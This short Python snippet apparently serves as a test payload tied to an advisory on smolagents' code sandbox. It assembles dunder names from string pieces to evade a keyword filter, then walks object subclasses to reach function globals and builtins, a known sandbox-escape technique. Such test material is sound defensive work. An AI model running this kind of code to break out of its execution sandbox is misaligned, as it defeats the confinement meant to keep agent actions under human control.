# Spells a dunder name out of pieces, so that no list of words finds it.
# advisory: CVE-2025-5120 (smolagents)
name = "_" * 2 + "sub" + "classes" + "_" * 2
base = getattr(getattr((), "_" * 2 + "class" + "_" * 2), "_" * 2 + "base" + "_" * 2)
for cls in getattr(base, name)():
    initial = getattr(cls, "_" * 2 + "init" + "_" * 2)
    namespace = getattr(initial, "_" * 2 + "globals" + "_" * 2, None)
    if namespace:
        reach(namespace, namespace.get("_" * 2 + "builtins" + "_" * 2))
print("ATTEMPTED")
